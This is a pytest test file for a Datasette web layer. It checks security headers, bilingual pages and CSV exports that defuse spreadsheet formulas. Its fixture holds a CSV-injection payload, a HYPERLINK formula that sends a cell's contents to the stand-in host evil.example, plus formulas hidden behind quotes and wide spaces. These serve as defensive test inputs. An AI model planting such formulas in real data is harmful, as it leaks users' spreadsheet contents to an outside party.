"""Datasette's own tables in our frame: rows first, our headers, CSV that no spreadsheet runs."""

import asyncio
import csv
import io
import re
import sqlite3
from contextlib import closing
from typing import Any

import pytest
from datasette.app import Datasette

from pipeline.database import schema
from pipeline.web.tables.csv_stream import SafeCsv
from pipeline.web.tables.words import WORDS

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"見る")'
LINES = '-1,"=1"\r\n@sum, \u3000＋1'
"""A text of two lines in which formulas hide behind quotes, ends of lines and wide spaces."""


@pytest.fixture(scope="module")
def datasette(tmp_path_factory: pytest.TempPathFactory) -> Datasette:
    folder = tmp_path_factory.mktemp("tables")
    ours, other = folder / "shinkyu.db", folder / "other.db"
    with closing(sqlite3.connect(ours)) as db, db:
        schema.create(db)
        db.execute(
            "INSERT INTO sources (id, name, page_url) VALUES ('a', ?, 'http://a/')", [FORMULA]
        )
        db.execute("INSERT INTO sources (id, name, page_url) VALUES ('b', ?, 'http://b/')", [LINES])
    with closing(sqlite3.connect(other)) as db, db:
        db.execute("CREATE TABLE t (x)")
        db.execute("INSERT INTO t VALUES ('=1')")
    return Datasette([str(ours), str(other)])


def get(datasette: Datasette, path: str, **headers: str) -> Any:
    async def ask() -> Any:
        return await datasette.client.get(path, headers=headers)

    return asyncio.run(ask())


def test_rows_come_before_what_explains_them(datasette: Datasette) -> None:
    html = get(datasette, "/shinkyu/sources").text
    rows, meaning = html.index("HYPERLINK"), html.index("列の説明")
    assert rows < meaning < html.index("CREATE TABLE")
    assert "<style" not in html
    assert " style=" not in html
    assert "<script" not in html
    assert html.count('rel="stylesheet"') == 1
    assert 'href="/-/search"' in html
    assert "自治体名" in html
    assert "収集元" in html


def test_they_speak_the_readers_language(datasette: Datasette) -> None:
    answer = get(datasette, "/shinkyu/sources?_lang=en")
    assert "What the columns mean" in answer.text
    assert "2 rows" in answer.text
    assert "shinkyu_lang=en" in answer.headers["set-cookie"]
    assert "private" in answer.headers["cache-control"]
    assert "2 rows" in get(datasette, "/shinkyu/sources?lang=en").text
    assert "2行" in get(datasette, "/shinkyu/sources?_lang=en&lang=ja").text
    remembered = get(datasette, "/shinkyu/sources/a", cookie="shinkyu_lang=en")
    assert "Name of the municipality" in remembered.text


@pytest.mark.parametrize(
    "path",
    [
        "/shinkyu",
        "/shinkyu.json",
        "/shinkyu?sql=select+1",
        "/shinkyu/sources",
        "/shinkyu/sources.json",
        "/shinkyu/sources.csv",
        "/shinkyu/sources/a",
        "/shinkyu/nothing",
        "/-/versions",
        "/-/databases.json",
        "/nowhere",
    ],
)
def test_our_headers_stand_on_every_answer(datasette: Datasette, path: str) -> None:
    headers = get(datasette, path).headers
    assert "default-src 'none'" in headers["content-security-policy"]
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"


def test_another_database_beside_ours_stays_as_it_is(datasette: Datasette) -> None:
    page = get(datasette, "/other/t")
    assert "content-security-policy" not in page.headers
    assert "Powered by" in page.text
    assert get(datasette, "/other/t.csv").text.splitlines()[1] == "1,=1"


@pytest.mark.parametrize("query", ["", "?_stream=on", "?_dl=1", "?_size=1&_stream=on"])
def test_no_cell_of_a_csv_is_a_formula(datasette: Datasette, query: str) -> None:
    answer = get(datasette, f"/shinkyu/sources.csv{query}")
    assert answer.content.startswith(b"\xef\xbb\xbfid,")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert [row["name"] for row in rows] == [f"'{FORMULA}", f"'{LINES}"]


def test_a_csv_may_be_cut_anywhere() -> None:
    whole = io.StringIO()
    csv.writer(whole).writerows([["a", "b"], [FORMULA, LINES], ["-1.5", "-20"], ["あ", "=2"]])
    raw = whole.getvalue().encode()
    at_once = SafeCsv().fed(raw, last=True)
    for size in (1, 2, 3, 7, 50):
        stream = SafeCsv()
        pieces = [raw[i : i + size] for i in range(0, len(raw), size)]
        told = b"".join(stream.fed(piece, last=False) for piece in pieces)
        assert told + stream.fed(b"", last=True) == at_once
    rows = list(csv.reader(io.StringIO(at_once.decode("utf-8-sig"), newline="")))
    assert rows[2] == ["-1.5", "-20"]
    assert rows[3] == ["あ", "'=2"]


def test_every_filter_has_words(datasette: Datasette) -> None:
    shown = re.findall(r'<option value="(\w+?)(?:__1)?"', _operators(datasette))
    assert len(shown) > 10
    assert {f"d.op.{key}" for key in shown} <= set(WORDS)


def _operators(datasette: Datasette) -> str:
    html: str = get(datasette, "/shinkyu/sources").text
    return html[html.index('name="_filter_op"') :].partition("</select>")[0]
